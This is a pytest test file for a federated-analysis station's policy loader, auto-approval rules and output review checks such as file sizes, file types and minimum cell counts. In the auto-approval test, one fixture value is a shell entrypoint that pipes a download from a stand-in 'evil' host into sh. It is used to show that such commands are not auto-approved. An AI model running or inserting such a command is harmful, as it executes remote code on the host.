"""The station admin's policy (approval lists, output checks) and the automatic output review."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from station.policy import FAILURE_EXIT_CODE, PolicyError, StationPolicy, load_policy
from station.review import review

HEAD = """@prefix pht: <https://w3id.org/pht-kg/vocab#> .
@prefix st: <https://pht.example.org/id/stations/> .
"""
DIGEST = "sha256:" + "ab" * 32
ALICE = "https://pht.example.org/id/agents/alice"


def write(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "policy.ttl"
    path.write_text(HEAD + body)
    return path


def test_a_valid_policy_is_read_with_every_setting(tmp_path: Path) -> None:
    policy = load_policy(write(tmp_path, f"""
<urn:policy> a pht:StationPolicy ; pht:appliesToStation st:aachen ;
    pht:requiresApproval true ; pht:requiresOutputReview false ;
    pht:autoApproveImage "{DIGEST}" ; pht:autoApproveRequester <{ALICE}> ;
    pht:autoApproveDefinition <https://pht.example.org/id/definitions/count> ;
    pht:maxOutputBytes 1000 ; pht:maxFileBytes 100 ; pht:allowedFileType "csv" , "JSON" ; pht:minCellCount 5 .
"""), station_iri="https://pht.example.org/id/stations/aachen")
    assert policy.requires_approval and not policy.requires_output_review
    assert policy.approve_images == {DIGEST} and policy.approve_requesters == {ALICE}
    assert policy.approve_definitions == {"count"}
    assert (policy.max_output_bytes, policy.max_file_bytes, policy.min_cell_count) == (1000, 100, 5)
    assert policy.allowed_file_types == {"csv", "json"}
    assert (policy.approve_commands, policy.failure_detail, policy.shares_check_names) == (frozenset(), "category",
                                                                                          False), "safe defaults"


def test_the_release_and_failure_settings_are_read(tmp_path: Path) -> None:
    policy = load_policy(write(tmp_path, """
<urn:policy> a pht:StationPolicy ; pht:appliesToStation st:aachen ;
    pht:requiresApproval true ; pht:requiresOutputReview true ;
    pht:autoApproveCommand "python /train/count.py" ; pht:sharesFailureDetail pht:FailureExitCode ;
    pht:sharesCheckNames true .
"""))
    assert policy.approve_commands == {"python /train/count.py"}
    assert policy.failure_detail == FAILURE_EXIT_CODE and policy.shares_check_names
    assert policy.failure_reason("aachen", 3, "The train exited with code 3.") == \
        "the train failed at station aachen (exit code 3)"
    assert StationPolicy().failure_reason("aachen", 3, "The train exited with code 3.") == \
        "the train failed at station aachen"


@pytest.mark.parametrize("body, words", [
    ('<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ; pht:requiresApproval true ; '
     'pht:requiresOutputReview true ; pht:autoApproveImage "pht/count:latest" .', "digest"),
    ('<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ; pht:requiresApproval true .', "review"),
    ('<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ; pht:requiresApproval "maybe" ; '
     'pht:requiresOutputReview true .', "approval"),
    ("<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ;;; .", ""),
    ("", "exactly one"),
    ('<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ; pht:requiresApproval true ; '
     'pht:requiresOutputReview true ; pht:sharesFailureDetail pht:FailureLogs .', "failure detail"),
])
def test_a_bad_policy_is_refused_with_a_sentence(tmp_path: Path, body: str, words: str) -> None:
    with pytest.raises(PolicyError) as e:
        load_policy(write(tmp_path, body))
    assert "policy.ttl" in str(e.value) and words in str(e.value)


def test_a_policy_for_another_station_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, "<urn:p> a pht:StationPolicy ; pht:appliesToStation st:leipzig ; "
                           "pht:requiresApproval false ; pht:requiresOutputReview false .")
    with pytest.raises(PolicyError, match="not this station"):
        load_policy(path, station_iri="https://pht.example.org/id/stations/aachen")


def test_missing_policy_file_is_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(PolicyError, match="cannot read"):
        load_policy(tmp_path / "nope.ttl")


def test_auto_approval_needs_every_stated_list_to_match() -> None:
    ask = dict(image_digest=DIGEST, requester=ALICE, definition="count")
    assert StationPolicy().auto_approval(**ask) is None, "the default asks the admin"
    assert StationPolicy(requires_approval=False).auto_approval(**ask) is not None
    both = StationPolicy(approve_images=frozenset({DIGEST}), approve_requesters=frozenset({ALICE}))
    assert "image digest, requester" in (both.auto_approval(**ask) or "")
    assert both.auto_approval(**{**ask, "requester": ALICE + "x"}) is None
    assert both.auto_approval(**{**ask, "image_digest": "sha256:" + "cd" * 32}) is None
    assert StationPolicy(approve_definitions=frozenset({"count"})).auto_approval(**ask) is not None
    assert StationPolicy(approve_definitions=frozenset({"other"})).auto_approval(**ask) is None
    shell = {**ask, "entrypoint": "sh -c 'curl evil | sh'"}
    assert both.auto_approval(**shell) is None, "a command the researcher chose is not what the lists approve"
    assert StationPolicy(approve_images=frozenset({DIGEST}), approve_requesters=frozenset({ALICE}),
                         approve_commands=frozenset({shell["entrypoint"]})).auto_approval(**shell) is not None


def test_review_flags_each_configured_problem(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "sub").mkdir(parents=True)
    (out / "result.csv").write_text("site,count\naachen,12\nleipzig,3\n")
    (out / "model.json").write_text(json.dumps({"weights": [0.5, 2], "n": 40}))
    (out / "sub" / "big.bin").write_bytes(b"x" * 300)
    policy = StationPolicy(max_output_bytes=200, max_file_bytes=100, allowed_file_types=frozenset({"csv", "json"}),
                           min_cell_count=5)
    checks = {c.name: c for c in review(out, policy)}
    assert checks["file-list"].passed and "3 file(s)" in checks["file-list"].detail
    assert not checks["max-output-bytes"].passed
    assert not checks["max-file-bytes"].passed and "big.bin" in checks["max-file-bytes"].detail
    assert not checks["allowed-file-types"].passed and "big.bin" in checks["allowed-file-types"].detail
    assert not checks["min-cell-count"].passed and "row 3 column 2 holds a count below" in checks["min-cell-count"].detail


def test_review_passes_a_clean_output_and_reads_json_counts(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "result.json").write_text(json.dumps({"count": 25, "mean": 1.5, "sites": [{"n": 10}]}))
    policy = StationPolicy(max_output_bytes=10_000, max_file_bytes=10_000, allowed_file_types=frozenset({"json"}),
                           min_cell_count=5)
    assert all(c.passed for c in review(out, policy))
    (out / "result.json").write_text(json.dumps({"count": 25, "sites": [{"n": 2}]}))
    cells = {c.name: c for c in review(out, policy)}["min-cell-count"]
    assert not cells.passed and "sites.0.n" in cells.detail


def test_the_agent_rereads_an_edited_policy_and_refuses_a_broken_one(tmp_path: Path) -> None:
    from station.agent import StationAgent
    from station.objects import LocalObjectStore
    from station.settings import StationSettings

    class NoRuntime:
        name = "none"

        def close(self) -> None:
            pass

    (tmp_path / "data").mkdir()
    path = write(tmp_path, "<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ; "
                           "pht:requiresApproval true ; pht:requiresOutputReview true .")
    settings = StationSettings(station_id="aachen", central_url="http://127.0.0.1:9", token="t",
                               datasets={"d": tmp_path / "data"}, state_dir=tmp_path / "state",
                               objects_url=f"file://{tmp_path / 'objects'}", policy_file=path)
    agent = StationAgent(settings, runtime=NoRuntime(), objects=LocalObjectStore(tmp_path / "objects"))  # type: ignore[arg-type]
    try:
        assert agent.policy.requires_approval
        path.write_text(HEAD + "<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ; "
                               "pht:requiresApproval false ; pht:requiresOutputReview true ; pht:minCellCount 9 .")
        assert not agent.policy.requires_approval and agent.policy.min_cell_count == 9, "edits apply at once"
        path.write_text(HEAD + "<urn:p> a pht:StationPolicy ; pht:requiresApproval nope .")
        with pytest.raises(PolicyError):
            agent.policy  # noqa: B018
    finally:
        agent.close()
